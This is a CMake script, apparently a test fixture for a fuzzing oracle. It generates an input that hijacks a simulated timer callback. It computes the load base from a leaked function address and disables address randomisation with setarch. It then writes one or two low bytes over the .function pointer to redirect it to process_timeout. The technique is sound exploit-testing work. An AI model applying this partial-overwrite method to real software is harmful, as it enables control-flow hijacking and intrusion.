# SPDX-License-Identifier: MIT
# Another subsystem's callback through a partial overwrite (fuzz/overflow_oracle.c
# judge_slot()): one or two low bytes written over the ring's own .function
# make it process_timeout (kernel/time/timer.c; under cfi-icall both are
# entries of one jump table), and the attacker's own task planted in the word
# after the timer (4.15: struct process_timer's task, a leak-table address)
# is the task it wakes. Which bytes depends on the binary's layout, so the
# input is made here from the binary's own symbol table; the replay must be
# HIJACKED:PROCESS_TIMEOUT_VIA_RING_TIMER.
#   cmake -DNM=nm -DBIN=th-fuzz-overflow-modern-<cfg> -DOUT=f.bin -P ...
# (TMPL, the old template of deferred_timer_fn's chain, is no longer read.)
execute_process(COMMAND ${NM} ${BIN} OUTPUT_VARIABLE syms RESULT_VARIABLE rc)
if(NOT rc EQUAL 0)
  message(FATAL_ERROR "${NM} ${BIN}: exit ${rc}")
endif()
foreach(fn write_cr4 process_timeout neighbour_timer_fn)
  if(NOT syms MATCHES "([0-9a-f]+) [tT] ${fn}\n")
    message(FATAL_ERROR "${BIN}: no symbol ${fn}")
  endif()
  set(addr_${fn} ${CMAKE_MATCH_1})
endforeach()
# The low bytes a partial overwrite writes are the run-time address's: a PIE
# is loaded at a random page, whose bits from 12 on shift the second byte.
# So every run is without address randomisation (setarch -R) and the load
# address is read from a first run's chain (the leaked &write_cr4 it writes).
set(run setarch x86_64 -R ${BIN})
# hex -> the file, through \x escapes that cmake's file(WRITE) cannot
# express: printf does.
function(write_input hexstr)
  string(REGEX REPLACE "([0-9a-f][0-9a-f])" "\\\\x\\1" esc "${hexstr}")
  execute_process(COMMAND printf "${esc}" OUTPUT_FILE ${OUT} RESULT_VARIABLE rc)
endfunction()
# fuzz/overflow_drive.h: INDEX (5) at 40, 8 bytes, one relocation: slot 0 =
# leak-table entry 0 (write_cr4).
write_input("052808010000000000000000000000000000")
execute_process(COMMAND ${run} ${OUT} RESULT_VARIABLE rc OUTPUT_VARIABLE out ERROR_VARIABLE err)
if(NOT "${out}${err}" MATCHES "= &write_cr4; bytes ([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])([0-9a-f][0-9a-f])")
  message(FATAL_ERROR "no leaked &write_cr4 in the first run's chain:\n${out}${err}")
endif()
set(le "${CMAKE_MATCH_8}${CMAKE_MATCH_7}${CMAKE_MATCH_6}${CMAKE_MATCH_5}${CMAKE_MATCH_4}${CMAKE_MATCH_3}${CMAKE_MATCH_2}${CMAKE_MATCH_1}")
math(EXPR base "0x${le} - 0x${addr_write_cr4}")
math(EXPR d "${base} + 0x${addr_process_timeout}")
math(EXPR r "${base} + 0x${addr_neighbour_timer_fn}")
# One byte when the two callbacks differ only in their low byte, else two:
# the most a partial overwrite may compose without a leak (the oracle's
# TH_FZ_PARTIAL_MAX).
math(EXPR d8 "${d} >> 8")
math(EXPR r8 "${r} >> 8")
math(EXPR d16 "${d} >> 16")
math(EXPR r16 "${r} >> 16")
if(d8 EQUAL r8)
  set(nbytes 1)
elseif(d16 EQUAL r16)
  set(nbytes 2)
else()
  message(FATAL_ERROR "process_timeout and the ring's callback differ above their two low "
          "bytes in this build: no partial overwrite the oracle allows reaches it")
endif()
foreach(k 0 1)
  math(EXPR b "(${d} >> (8 * ${k})) & 255" OUTPUT_FORMAT HEXADECIMAL)
  string(REPLACE "0x" "" b "${b}")
  string(LENGTH "${b}" bl)
  if(bl EQUAL 1)
    set(b "0${b}")
  endif()
  set(byte${k} ${b})
endforeach()
# ARM (0); INDEX at 56, the word after the 4.15 timer: 8 bytes, slot 0 =
# leak-table entry 13 (the attacker's task); INDEX at 40: the low byte(s) of
# .function, the attacker's literals.
set(plant "00" "0538080100" "0d00" "0000000000000000")
string(JOIN "" plant ${plant})
if(nbytes EQUAL 1)
  write_input("${plant}05280100${byte0}")
  set(lo "${byte0}")
else()
  write_input("${plant}05280200${byte0}${byte1}")
  set(lo "${byte1}${byte0}")
endif()
execute_process(COMMAND ${run} ${OUT} RESULT_VARIABLE rc OUTPUT_VARIABLE out ERROR_VARIABLE err)
if(NOT "${out}${err}" MATCHES "TH-FUZZ-RESULT: outcome=HIJACKED sig=HIJACKED:PROCESS_TIMEOUT_VIA_RING_TIMER ")
  message(FATAL_ERROR "low ${nbytes} byte(s) 0x${lo}: not process_timeout's hijack:\n${out}${err}")
endif()
